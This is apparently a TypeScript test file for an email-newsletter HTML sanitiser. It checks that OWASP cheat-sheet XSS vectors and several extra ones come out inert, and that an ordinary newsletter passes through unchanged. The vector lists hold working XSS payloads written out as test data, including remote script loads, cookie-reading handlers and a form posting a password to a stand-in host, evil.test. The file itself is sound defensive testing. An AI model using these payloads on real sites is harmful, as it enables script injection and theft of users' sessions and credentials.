// The sanitiser against the OWASP XSS Filter Evasion Cheat Sheet: every vector must come out inert, read back by a
// real HTML parser (not by looking for strings), and an ordinary newsletter must come out whole.
import assert from "node:assert/strict";
import { type ChildNode, type Element, isTag } from "domhandler";
import { parseDocument } from "htmlparser2";
import { sanitizeCampaignHtml } from "./sanitize.ts";

const ALLOWED_TAGS = new Set(
  "p br hr span div center blockquote pre code small sup sub strong b em i u s h1 h2 h3 h4 h5 h6 ul ol li table thead tbody tfoot tr td th caption colgroup col a img"
    .split(" "),
);

function elements(nodes: ChildNode[]): Element[] {
  return nodes.flatMap((node) => (isTag(node) ? [node, ...elements(node.children)] : []));
}

/** Why the HTML could still run or fetch something, or nothing when it is inert. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const element of elements(parseDocument(html).children)) {
    if (!ALLOWED_TAGS.has(element.name)) found.push(`<${element.name}>`);
    for (const [name, value] of Object.entries(element.attribs)) {
      if (name.startsWith("on")) found.push(`${name} on <${element.name}>`);
      if (["background", "dynsrc", "lowsrc", "data", "action", "formaction", "xlink:href"].includes(name)) {
        found.push(`${name} on <${element.name}>`);
      }
      if (name === "href" && !/^(?:https?:|mailto:)/i.test(value)) found.push(`href=${value}`);
      if (name === "src" && !/^https?:/i.test(value)) found.push(`src=${value}`);
      if (name === "style" && /url|expression|javascript|behavior|binding|\\|@import/i.test(value)) {
        found.push(`style=${value}`);
      }
    }
  }
  return found;
}

// From the OWASP XSS Filter Evasion Cheat Sheet, in its order.
const OWASP_VECTORS: [string, string][] = [
  ["basic script", `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`],
  [
    "polyglot locator",
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  ],
  ["malformed a tag", `<a onmouseover="alert(document.cookie)">xxs link</a>`],
  ["malformed a tag without quotes", `<a onmouseover=alert(document.cookie)>xxs link</a>`],
  ["malformed img tag", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`],
  ["fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`],
  ["default src tag", `<IMG SRC=# onmouseover="alert('xxs')">`],
  ["empty src", `<IMG SRC= onmouseover="alert('xxs')">`],
  ["no src", `<IMG onmouseover="alert('xxs')">`],
  ["on error alert", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`],
  [
    "onerror with encoded javascript",
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  ],
  [
    "decimal character references",
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  ],
  [
    "decimal references without semicolons",
    `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  ],
  [
    "hexadecimal references without semicolons",
    `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  ],
  ["embedded tab", `<IMG SRC="jav\tascript:alert('XSS');">`],
  ["embedded encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ["embedded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ["embedded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ["null in javascript directive", `<IMG SRC=java\0script:alert("XSS")>`],
  ["spaces and meta characters before javascript", `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ["non-alpha-non-digit", `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`],
  ["junk before the equals sign", `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`],
  ["slash between tag and attribute", `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`],
  ["extraneous open brackets", `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
  ["no closing script tag", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`],
  ["protocol resolution in script tags", `<SCRIPT SRC=//xss.rocks/.j>`],
  ["half open vector", `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ["double open angle brackets", `<iframe src=http://xss.rocks/scriptlet.html <`],
  ["ending a script block", `</script><script>alert('XSS');</script>`],
  ["end title tag", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`],
  ["input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ["body background", `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ["img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`],
  ["img lowsrc", `<IMG LOWSRC="javascript:alert('XSS')">`],
  ["list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ["vbscript in an image", `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ["livescript", `<IMG SRC="livescript:[code]">`],
  ["svg object tag", `<svg/onload=alert('XSS')>`],
  ["body onload", `<BODY ONLOAD=alert('XSS')>`],
  ["remote style sheet", `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`],
  ["style import", `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`],
  ["meta link header", `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`],
  ["moz-binding", `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`],
  ["style broken up javascript", `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`],
  ["style attribute breaking up an expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ["img style with expressions", `exp/*<A STYLE='no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))'>`],
  ["style background-image", `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`],
  ["anonymous tag with style", `<XSS STYLE="xss:expression(alert('XSS'))">`],
  ["local htc file", `<XSS STYLE="behavior: url(xss.htc);">`],
  ["meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  [
    "meta refresh with data",
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  ],
  ["iframe", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ["iframe event", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`],
  ["frame", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ["table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ["td background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  ["div background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  [
    "div background-image with unicode escapes",
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  ],
  ["div expression", `<DIV STYLE="width: expression(alert('XSS'));">`],
  ["downlevel-hidden block", `<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->`],
  ["base tag", `<BASE HREF="javascript:alert('XSS');//">`],
  ["object tag", `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`],
  ["embed flash", `<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>`],
  [
    "embed svg data",
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  ],
  [
    "xml data island",
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  ],
  [
    "html+time",
    `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`,
  ],
  ["script disguised as an image", `<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>`],
  ["meta set-cookie", `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`],
  ["quote encapsulation", `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ["quote encapsulation with grave accents", "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>"],
  ["unmatched quotes", `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
];

// Not in the cheat sheet but named by what a campaign may not carry: forms and data: links.
const MORE_VECTORS: [string, string][] = [
  ["form", `<form action="https://evil.test/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>`],
  ["data link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>`],
  ["data image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["javascript link in mixed case with entities", `<a href="JaVaScRiPt&colon;alert(1)">x</a>`],
  ["protocol-relative link", `<a href="//evil.test/x">x</a>`],
  ["svg with script", `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`],
  ["math with href", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
  ["template smuggling", `<template><img src=x onerror=alert(1)></template>`],
  ["noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
];

Deno.test(`all ${OWASP_VECTORS.length} vectors of OWASP's XSS filter evasion cheat sheet come out inert`, () => {
  assert.ok(OWASP_VECTORS.length >= 25);
  for (const [name, vector] of [...OWASP_VECTORS, ...MORE_VECTORS]) {
    const clean = sanitizeCampaignHtml(vector);
    assert.deepEqual(dangers(clean), [], `${name}: ${clean}`);
    // Sanitising again changes nothing: the output is already in its final, parsed form.
    assert.equal(sanitizeCampaignHtml(clean), clean, `${name} is stable`);
  }
});

Deno.test("the inertness check itself sees each kind of danger", () => {
  assert.deepEqual(dangers(`<script>alert(1)</script>`), ["<script>"]);
  assert.deepEqual(dangers(`<p onclick="x">a</p>`), ["onclick on <p>"]);
  assert.deepEqual(dangers(`<a href="javascript:x">a</a>`), ["href=javascript:x"]);
  assert.deepEqual(dangers(`<img src="data:image/png;base64,AA">`), ["src=data:image/png;base64,AA"]);
  assert.deepEqual(dangers(`<div style="background:url(x)">a</div>`), ["style=background:url(x)"]);
  assert.deepEqual(dangers(`<table background="x"></table>`), ["background on <table>"]);
});

Deno.test("an ordinary newsletter comes out whole", () => {
  // Written as the sanitiser writes markup back (styles compacted, a URL last), so "whole" can mean equal.
  const newsletter = [
    `<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" align="center" style="max-width:600px;background-color:#ffffff">`,
    `<tbody><tr><td align="center" style="padding:24px 16px;font-family:Arial, 'Helvetica Neue', sans-serif">`,
    `<img alt="MailScout" width="120" height="40" style="display:block;border:0" src="https://cdn.mailscout.test/logo.png" />`,
    `<h1 style="font-size:24px;color:rgb(17, 24, 39);margin:16px 0">Spring offer</h1>`,
    `<p style="line-height:1.5;color:#374151">Validate <strong>10,000</strong> addresses for the price of <em>5,000</em>.</p>`,
    `<ul><li>Bulk lists</li><li>API keys</li></ul>`,
    `<p><a style="background-color:#2563eb;color:#fff;padding:12px 20px;text-decoration:none;border-radius:4px" href="https://mailscout.test/pricing?utm_source=email&amp;utm_campaign=spring">See plans</a></p>`,
    `<p style="font-size:12px">Questions? <a href="mailto:support@mailscout.test">support@mailscout.test</a></p>`,
    `</td></tr></tbody></table>`,
  ].join("");
  assert.equal(sanitizeCampaignHtml(newsletter), newsletter);
});

Deno.test("styles keep their safe properties and lose the rest; relative links and images lose their URL", () => {
  assert.equal(
    sanitizeCampaignHtml(`<p style="color: red; position: fixed; background-image: url(https://x.test/a.png)">Hi</p>`),
    `<p style="color:red">Hi</p>`,
  );
  assert.equal(sanitizeCampaignHtml(`<a href="/pricing">Plans</a>`), `<a>Plans</a>`);
  assert.equal(sanitizeCampaignHtml(`<img src="logo.png" alt="Logo" />`), `<img alt="Logo" />`);
  assert.equal(sanitizeCampaignHtml(`<p>Text in a <iframe src="https://x.test"></iframe>frame</p>`), `<p>Text in a frame</p>`);
  assert.equal(sanitizeCampaignHtml(`<p>a<script>alert(1)</script>b</p>`), `<p>ab</p>`);
});
